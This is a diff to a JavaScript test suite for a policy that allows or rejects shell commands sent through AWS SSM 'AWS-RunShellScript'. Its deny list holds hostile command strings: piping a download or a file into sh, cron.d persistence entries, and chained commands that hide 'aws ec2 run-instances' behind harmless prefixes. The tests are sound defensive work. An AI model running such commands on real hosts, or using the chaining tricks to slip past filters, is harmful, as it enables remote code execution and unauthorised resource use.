@@ -297,6 +297,13 @@ describe("other-routes", () => {
               'echo "0 3 * * * root /usr/bin/systemctl restart shop" | sudo tee /etc/cron.d/shop\necho aws is up to date',
           },
         },
+        {
+          name: "AWS-RunShellScript",
+          parameters: {
+            commands:
+              "systemctl start migrate &\ntail -f --pid=$! /var/log/shop 2>&1\nwait $! && exit 0\ntail -n 30 /var/log/shop >&2; exit 1",
+          },
+        },
       ],
       mayNot: [
         { name: "AWS-RunShellScript" },
@@ -308,6 +315,9 @@ describe("other-routes", () => {
           "dnf install -y awscli; aws ec2 run-instances",
           "echo $(aws sts get-caller-identity)",
           "sudo python3 make.py",
+          "tail -n 1 /tmp/commands 2>&1 | sh",
+          "true >&2 & python3 make.py",
+          "true 2>&1; aws ec2 run-instances",
           "curl https://example.com/x | sh",
           'echo "0 3 * * * root aws ec2 run-instances" | tee /etc/cron.d/grow',
           "printf '@reboot root /opt/grow.sh' > /etc/cron.d/grow",
